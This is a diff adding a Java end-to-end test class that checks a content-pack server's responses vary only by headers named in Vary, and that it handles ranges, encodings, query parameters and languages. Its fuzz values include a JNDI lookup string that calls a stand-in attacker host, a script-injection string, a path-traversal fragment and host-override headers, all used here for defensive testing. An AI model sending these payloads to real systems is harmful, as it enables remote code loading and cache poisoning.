@@ -1,0 +1,290 @@
+package org.contentpack.e2e;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.contentpack.e2e.Server.ARTICLE;
+import static org.contentpack.e2e.Server.PACK;
+import static org.contentpack.e2e.Server.get;
+import static org.contentpack.e2e.Server.raw;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.TreeMap;
+import org.contentpack.BadInput;
+import org.contentpack.e2e.Server.Answer;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What makes two answers from one address differ: what {@code Vary} names, and nothing else. */
+class HttpVariantsE2E {
+
+    private static final String EXACT = PACK + "/versions/1.1.0";
+
+    private static final List<String> TARGETS =
+            List.of(
+                    "/",
+                    "/api/packs",
+                    PACK + "/versions",
+                    EXACT,
+                    EXACT + ARTICLE,
+                    EXACT + ARTICLE + ".html",
+                    EXACT + ARTICLE + "/sections/intro",
+                    EXACT + "/assets/wall-calf-stretch.svg",
+                    PACK + "/versions/1",
+                    "/api/packs/unknown");
+
+    /** Fields with which servers, proxies and frameworks were made to answer otherwise. */
+    private static final List<String> KNOWN =
+            List.of(
+                    "X-Forwarded-Host",
+                    "X-Forwarded-For",
+                    "X-Forwarded-Proto",
+                    "X-Forwarded-Port",
+                    "X-Forwarded-Prefix",
+                    "X-Forwarded-Scheme",
+                    "X-Forwarded-Server",
+                    "Forwarded",
+                    "X-Host",
+                    "X-Original-URL",
+                    "X-Original-Host",
+                    "X-Rewrite-URL",
+                    "X-HTTP-Host-Override",
+                    "X-HTTP-Method-Override",
+                    "X-HTTP-Method",
+                    "X-Method-Override",
+                    "X-Request-Id",
+                    "X-Real-IP",
+                    "X-Client-IP",
+                    "True-Client-IP",
+                    "X-Requested-With",
+                    "X-Debug",
+                    "X-Accept-Language",
+                    "Accept-Charset",
+                    "Accept-Datetime",
+                    "Accept-CH",
+                    "Content-Type",
+                    "Content-Language",
+                    "Cookie",
+                    "Origin",
+                    "Referer",
+                    "User-Agent",
+                    "From",
+                    "Via",
+                    "Prefer",
+                    "Range",
+                    "If-Range",
+                    "If-Match",
+                    "If-Unmodified-Since",
+                    "If-Modified-Since",
+                    "Save-Data",
+                    "Sec-Fetch-Mode",
+                    "Sec-CH-UA",
+                    "DNT",
+                    "TE",
+                    "Trailer",
+                    "Cache-Control",
+                    "Pragma",
+                    "Max-Forwards",
+                    "Proxy-Authorization",
+                    "Idempotency-Key",
+                    "Content-Pack-Signature",
+                    "$WSSN",
+                    "$WSSP",
+                    "$WSIS",
+                    "$WSSC",
+                    "$WSRA",
+                    "$WSPR",
+                    "Surrogate-Capability",
+                    "X-Wap-Profile",
+                    "Content-Encoding",
+                    "Content-Location",
+                    "Access-Control-Request-Method",
+                    "Access-Control-Request-Headers");
+
+    private static final List<String> VALUES =
+            List.of(
+                    "evil.example",
+                    "https://evil.example/",
+                    "/admin",
+                    "0",
+                    "1",
+                    "443",
+                    "true",
+                    "es",
+                    "text/html",
+                    "DELETE",
+                    "gzip",
+                    "no-cache",
+                    "bytes=0-0",
+                    "lang=es",
+                    "Thu, 01 Jan 1970 00:00:00 GMT",
+                    "\"a\"",
+                    "*",
+                    "<script>alert(1)</script>",
+                    "..%2f..%2f",
+                    "${jndi:ldap://evil.example/a}");
+
+    /** Status, all header fields but those of this one answer, and the body. */
+    private static List<Object> comparable(Answer answer) {
+        Map<String, List<String>> headers = new TreeMap<>(answer.headers());
+        headers.remove("date");
+        headers.remove("x-request-id");
+        return List.of(answer.status(), headers, answer.body());
+    }
+
+    @Test
+    @BadInput("H12")
+    void aFieldThatVaryDoesNotNameChangesNothing() {
+        Random random = new Random(20_261_126);
+        Map<String, List<Object>> plain = new TreeMap<>();
+        TARGETS.forEach(target -> plain.put(target, comparable(raw("GET", target))));
+        List<String> changed = new ArrayList<>();
+        for (int i = 0; i < 200; i++) {
+            String name =
+                    i < KNOWN.size()
+                            ? KNOWN.get(i)
+                            : "X-" + Integer.toString(random.nextInt(1 << 30), 36);
+            String value = VALUES.get(random.nextInt(VALUES.size()));
+            String target = TARGETS.get(random.nextInt(TARGETS.size()));
+            if (!comparable(raw("GET", target, name, value)).equals(plain.get(target))) {
+                changed.add(name + ": " + value + " at " + target);
+            }
+        }
+
+        assertThat(changed).isEmpty();
+    }
+
+    /** The container looks for a session of its own before any code of ours, and fails. */
+    @Test
+    @BadInput("H12")
+    void aCookieThatTheContainerCannotReadIsItsFault() {
+        Answer answer = get(EXACT, "Cookie", "$Version=9;a");
+
+        assertThat(answer.status()).isEqualTo(500);
+        assertThat(answer.bytes()).isEmpty();
+        assertThat(answer.header("Cache-Control")).isEmpty();
+        assertThat(get(EXACT, "Cookie", "a=b; $Version=1; c;; =; \"").status()).isEqualTo(200);
+    }
+
+    /** Ranges are not built; a server may give the whole instead (RFC 9110, section 14.2). */
+    @ParameterizedTest
+    @BadInput("H6")
+    @ValueSource(
+            strings = {
+                "bytes=0-0",
+                "bytes=-0",
+                "bytes=-1",
+                "bytes=999999999-",
+                "bytes=0-99,50-150",
+                "bytes=5-1",
+                "lines=1-2",
+                "bytes=",
+                "nonsense"
+            })
+    void aRangeIsAnsweredWithTheWhole(String range) {
+        for (String target :
+                List.of(
+                        EXACT + "/archive",
+                        EXACT + ARTICLE + ".html",
+                        EXACT + "/assets/wall-calf-stretch.svg")) {
+            Answer whole = get(target);
+            Answer answer =
+                    get(target, "Range", range, "If-Range", whole.header("ETag").orElse(""));
+
+            assertThat(answer.status()).isEqualTo(200);
+            assertThat(answer.bytes()).isEqualTo(whole.bytes());
+        }
+        assertThat(get(EXACT + "/archive").header("Accept-Ranges")).contains("none");
+    }
+
+    @Test
+    @BadInput("H6")
+    void aThousandRangesAreAnsweredWithTheWhole() {
+        Answer answer = get(EXACT + "/archive", "Range", "bytes=0-0" + ",0-0".repeat(1_000));
+
+        assertThat(answer.status()).isEqualTo(200);
+        assertThat(answer.bytes()).isEqualTo(get(EXACT + "/archive").bytes());
+    }
+
+    /** There is one coding, so there is one tag; caches are told that there may be more. */
+    @ParameterizedTest
+    @BadInput("H7")
+    @ValueSource(strings = {"gzip", "br;q=1, gzip;q=0.5", "identity;q=0", "*;q=0", "*"})
+    void noCodingIsApplied(String accepted) {
+        Answer plain = get(EXACT + ARTICLE);
+        Answer answer = get(EXACT + ARTICLE, "Accept-Encoding", accepted);
+
+        assertThat(answer.header("Content-Encoding")).isEmpty();
+        assertThat(answer.bytes()).isEqualTo(plain.bytes());
+        assertThat(answer.header("ETag")).isEqualTo(plain.header("ETag"));
+        assertThat(answer.header("Vary").orElse("")).contains("Accept-Encoding");
+    }
+
+    @ParameterizedTest
+    @BadInput("H11")
+    @ValueSource(
+            strings = {
+                "utm_source=x",
+                "callback=alert",
+                "format=html&format=json",
+                "x",
+                "=",
+                "&&",
+                "_method=DELETE",
+                "Lang=es",
+                "lang%5B%5D=es",
+                "version=1.0.0"
+            })
+    void aParameterThatNobodyKnowsChangesNothing(String query) {
+        Answer plain = get(EXACT + ARTICLE);
+        Answer answer = get(EXACT + ARTICLE + "?" + query);
+
+        assertThat(answer.kind()).isEqualTo("200 application/json");
+        assertThat(answer.bytes()).isEqualTo(plain.bytes());
+        assertThat(answer.header("ETag")).isEqualTo(plain.header("ETag"));
+    }
+
+    @ParameterizedTest
+    @BadInput("H11")
+    @ValueSource(strings = {"lang=en&lang=es", "lang=en&lang=en", "l%61ng=en&lang=es", "lang="})
+    void aKnownParameterThatSaysTwoThingsIsMalformed(String query) {
+        assertThat(get(EXACT + ARTICLE + "?" + query).kind())
+                .isEqualTo("400 application/problem+json");
+    }
+
+    /** There is no TimeGate yet: the field is one of those that nobody knows. */
+    @ParameterizedTest
+    @BadInput("H15")
+    @ValueSource(
+            strings = {
+                "Mon, 01 Jan 1990 00:00:00 GMT",
+                "Fri, 01 Jan 2100 00:00:00 GMT",
+                "Thu, 31 May 2007 20:35:00 GMT",
+                "yesterday"
+            })
+    void aTimeAskedForIsIgnored(String time) {
+        Answer plain = get(PACK + ARTICLE);
+        Answer answer = get(PACK + ARTICLE, "Accept-Datetime", time);
+
+        assertThat(answer.status()).isEqualTo(200);
+        assertThat(answer.bytes()).isEqualTo(plain.bytes());
+        assertThat(answer.header("Vary").orElse("")).doesNotContainIgnoringCase("accept-datetime");
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "/api/packs, ''",
+        "/style.css, ''",
+        "/api/packs/leg-cramps-at-night/versions/1.1.0/archive, ''",
+        "/api/packs/leg-cramps-at-night/versions/1, ''",
+        "/api/packs/unknown, en",
+        "/api/packs/leg-cramps-at-night/articles/what-causes-leg-cramps-at-night?lang=es, es",
+        "/, en"
+    })
+    void anAnswerIsInTheLanguageThatItSays(String target, String language) {
+        assertThat(get(target).header("Content-Language")).contains(language);
+    }
+}
